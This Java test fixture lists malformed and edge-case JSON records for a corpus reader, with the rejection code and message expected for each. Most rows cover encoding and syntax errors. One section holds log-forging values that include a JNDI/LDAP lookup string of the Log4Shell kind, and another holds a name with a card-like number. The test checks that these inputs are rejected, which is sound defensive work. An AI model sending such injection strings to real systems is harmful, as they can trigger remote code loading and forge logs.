// SPDX-License-Identifier: Apache-2.0
package io.azud.testkit.corpus;

/** What may be wrong with a JSON record as a whole, as {@link CorpusText} reads it. */
final class JsonDocuments {
  private JsonDocuments() {}

  static final String TEXT =
      """
          3 an empty value
             | empty | The record is empty (byte 0).
            %20%0A | empty | The record is empty (byte 2).
          4 JSON that is not an object
            null | not_an_object | The record is not a JSON object (byte 0).
            [] | not_an_object | The record is not a JSON object (byte 0).
            42 | not_an_object | The record is not a JSON object (byte 0).
            "x" | not_an_object | The record is not a JSON object (byte 0).
          4 something that is no JSON at all
            hello | malformed | The record is not JSON (byte 0).
            <xml/> | malformed | The record is not JSON (byte 0).
          5 something behind the object
            {"id":"x"} garbage | trailing_data | The record has something behind its closing brace (byte 11).
            {"id":"x"}{"id":"y"} | trailing_data | The record has something behind its closing brace (byte 10).
            {"id":"x"}} | trailing_data | The record has something behind its closing brace (byte 10).
          6 the same key twice in one object, also written with escapes or deep inside
            {"id":"x","i":1,"i":2} | duplicate_key | Field i is there twice (byte 20).
            {"id":"x","i":1,"\\u0069":1} | duplicate_key | Field i is there twice (byte 25).
            {"id":"x","j":{"x":1,"x":1}} | duplicate_key | Field j has the same key twice in one object (byte 25).
            {"id":"x","j":[{"a":{},"\\u0061":2}]} | duplicate_key | Field j has the same key twice in one object (byte 32).
            {"id":"x","mp":{"k":"1","k":"2"}} | duplicate_key | Field mp has the same key twice in one object (byte 28).
          7 a byte order mark in front
            %EF%BB%BF{"id":"x","i":1} | accepted | i=1
          7 two byte order marks in front
            %EF%BB%BF%EF%BB%BF{"id":"x"} | malformed | The record is not JSON (byte 3).
          8 UTF-16 or UTF-32
            %FF%FE{%00}%00 | invalid_utf8 | The record is UTF-16 or UTF-32 and not UTF-8 (byte 0).
            %FE%FF%00{%00} | invalid_utf8 | The record is UTF-16 or UTF-32 and not UTF-8 (byte 0).
            {%00}%00 | invalid_utf8 | The record is UTF-16 or UTF-32 and not UTF-8 (byte 0).
            %00{%00} | invalid_utf8 | The record is UTF-16 or UTF-32 and not UTF-8 (byte 0).
            {%00%00%00}%00%00%00 | invalid_utf8 | The record is UTF-16 or UTF-32 and not UTF-8 (byte 0).
          9 bytes that are not UTF-8, in a value or a key
            {"id":"x","s":"%FF"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%C3"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%80"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%F4%90%80%80"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","j":["%FF"]} | invalid_utf8 | Field j is not valid UTF-8 (byte 16).
            {"id":"x","j":{"%FF":1}} | invalid_utf8 | Field j is not valid UTF-8 (byte 16).
          10 overlong UTF-8
            {"id":"x","s":"%C0%AF"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%E0%80%AF"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%F0%80%80%AF"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
          11 surrogates encoded as UTF-8
            {"id":"x","s":"%ED%A0%80"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
            {"id":"x","s":"%ED%A0%BD%ED%B8%80"} | invalid_utf8 | Field s is not valid UTF-8 (byte 15).
          12 an escape for half of a surrogate pair
            {"id":"x","s":"\\ud800"} | lone_surrogate | Field s holds half of a surrogate pair (byte 17).
            {"id":"x","s":"\\ud800\\ud800"} | lone_surrogate | Field s holds half of a surrogate pair (byte 17).
            {"id":"x","s":"\\udc00\\ud800"} | lone_surrogate | Field s holds half of a surrogate pair (byte 17).
            {"id":"x","j":["\\ud800x"]} | lone_surrogate | Field j holds half of a surrogate pair (byte 18).
            {"id":"x","j":{"\\udfff":1}} | lone_surrogate | Field j holds half of a surrogate pair (byte 18).
          13 emoji, joiners, right-to-left and combining characters, raw or escaped
            {"id":"x","s":"%F0%9F%98%80"} | accepted | s=%F0%9F%98%80
            {"id":"x","s":"\\ud83d\\uDE00"} | accepted | s=%F0%9F%98%80
            {"id":"x","s":"%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7"} | accepted | s=%F0%9F%91%A9%E2%80%8D%F0%9F%91%A7
            {"id":"x","s":"%D7%A2%D7%91 %D9%85%D8%B1"} | accepted | s=%D7%A2%D7%91 %D9%85%D8%B1
            {"id":"x","s":"e%CC%81 %EF%BF%BF %E2%80%A8"} | accepted | s=e%CC%81 %EF%BF%BF %E2%80%A8
          14 the character U+0000 as an escape
            {"id":"x","s":"a\\u0000b"} | nul | Field s holds the character U+0000, which PostgreSQL cannot store (byte 18).
            {"id":"x","j":{"a":"\\u0000"}} | nul | Field j holds the character U+0000, which PostgreSQL cannot store (byte 22).
            {"id":"x","j":{"\\u0000":1}} | nul | Field j holds the character U+0000, which PostgreSQL cannot store (byte 18).
            {"id":"x","mp":{"k":"\\u0000"}} | nul | Field mp[entry 1] holds the character U+0000, which PostgreSQL cannot store (byte 23).
          15 the character U+0000 as it is
            {"id":"x","s":"%00"} | nul | Field s holds the character U+0000, which PostgreSQL cannot store (byte 15).
          15 another raw control character in a string
            {"id":"x","s":"%01"} | control_character | Field s holds an unescaped control character (byte 15).
            {"id":"x","s":"%0A"} | control_character | Field s holds an unescaped control character (byte 15).
            {"id":"x","j":"%1F"} | control_character | Field j holds an unescaped control character (byte 15).
          15 a control character between values
            {"id":"x","i":1%0C} | malformed | The record lacks a comma or a closing bracket (byte 15).
          28 what other parsers forgive: leading zeros, plus signs, missing digits, hexadecimal
            {"id":"x","i":01} | malformed | Field i holds a number that JSON does not allow (byte 14).
            {"id":"x","i":-01} | malformed | Field i holds a number that JSON does not allow (byte 14).
            {"id":"x","i":+1} | malformed | Field i holds something that is not a JSON value (byte 14).
            {"id":"x","i":-} | malformed | Field i holds a number that JSON does not allow (byte 14).
            {"id":"x","i":0x10} | malformed | The record lacks a comma or a closing bracket (byte 15).
            {"id":"x","d":.5} | malformed | Field d holds something that is not a JSON value (byte 14).
            {"id":"x","d":5.} | malformed | Field d holds a number that JSON does not allow (byte 14).
            {"id":"x","d":1e} | malformed | Field d holds a number that JSON does not allow (byte 14).
          28 what other parsers forgive: comments, single quotes, trailing commas, bare names
            {"id":"x","i":1/*c*/} | malformed | The record lacks a comma or a closing bracket (byte 15).
            {'id':'x'} | malformed | The record lacks a key (byte 1).
            {"id":"x","s":'x'} | malformed | Field s holds something that is not a JSON value (byte 14).
            {"id":"x","i":1,} | malformed | The record lacks a key (byte 16).
            {"id":"x","j":[1,]} | malformed | Field j holds something that is not a JSON value (byte 17).
            {"id":"x","j":[,1]} | malformed | Field j holds something that is not a JSON value (byte 15).
            {id:"x"} | malformed | The record lacks a key (byte 1).
          28 an object that is not complete or not well formed
            {"id" "x"} | malformed | The record has no colon behind a key (byte 6).
            {"id":"x" "i":1} | malformed | The record lacks a comma or a closing bracket (byte 10).
            {"id":"x","i":} | malformed | Field i holds something that is not a JSON value (byte 14).
            {"id":"x","i":1 | malformed | The record ends too early (byte 15).
            { | malformed | The record lacks a key (byte 1).
          28 an escape that JSON does not have
            {"id":"x","s":"\\x"} | malformed | Field s holds an escape that JSON does not know (byte 16).
            {"id":"x","s":"\\u12g4"} | malformed | Field s holds a \\u escape without four hexadecimal digits (byte 17).
          60 text that forges log lines, in a name or a value
            {"id":"x","\\r\\n\\u001b[31m${jndi:ldap://h/a}":1} | unknown_field | The record has a field that the contract does not name; its name is 25 bytes long (byte 10).
            {"id":"x","i":"\\r\\n\\u001b[31m${jndi:ldap://h/a}"} | wrong_type | Field i is a string and not a number (byte 14).
            {"id":"x","i":%0D%0A%1B[31m${jndi:ldap://h/a}} | malformed | Field i holds something that is not a JSON value (byte 16).
          62 personal data in a record that is rejected
            {"id":"x","s":"Ada Lovelace, 4539 1488 0343 6467","i":"x"} | wrong_type | Field i is a string and not a number (byte 54).
          """;
}
